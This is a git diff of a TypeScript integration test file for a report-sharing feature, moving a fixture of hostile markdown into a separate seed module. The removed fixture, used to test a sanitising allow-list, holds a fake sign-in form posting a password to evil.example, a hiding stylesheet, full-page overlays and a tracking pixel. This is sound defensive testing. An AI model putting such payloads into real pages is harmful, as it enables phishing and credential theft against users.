@@ -16,7 +16,7 @@ import { createModel } from "@/server/services/models";
 import { hashShareToken, resolveShareToken } from "@/server/reports/service";
 import { callerFor, createWorkspaceWith, signUp, uniqueEmail } from "../../helpers/auth";
 import { FRAUD_MODEL } from "../../unit/reports/fixture";
-import { insertFinishedRun } from "./seed-run";
+import { HOSTILE_MARKDOWN, insertFinishedRun } from "./seed-run";
 import { POST as createReportRoute } from "@/app/api/v1/runs/[id]/reports/route";
 import { POST as createLinkRoute } from "@/app/api/v1/reports/[id]/links/route";
 import { DELETE as revokeLinkRoute } from "@/app/api/v1/reports/[id]/links/[linkId]/route";
@@ -122,16 +122,6 @@ describe("a report is frozen", () => {
     expect((await failure(editor.report.create({ workspaceSlug, runId }))).message).toMatch(/finished run only/);
   });
 });
-
-/** Markdown that, before the allow-list, kept a phishing form, a stylesheet, a full-page overlay and a tracking image. */
-export const HOSTILE_MARKDOWN = [
-  "Notes.",
-  '<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button>Sign in again</button></form>',
-  "<style>.eb-report{display:none}</style>",
-  '<div style="position:fixed;top:0;left:0;right:0;bottom:0;z-index:9999;background:#fff">OVERLAYMARKER</div>',
-  '<div class="fixed inset-0 z-50">CLASSMARKER</div>',
-  "![pixel](https://evil.example/pixel.png)",
-].join("\n\n");
 
 /** The user-written parts of a report page (markdown cells, narrative, runbooks), as HTML. */
 function userWritten(html: string): string {
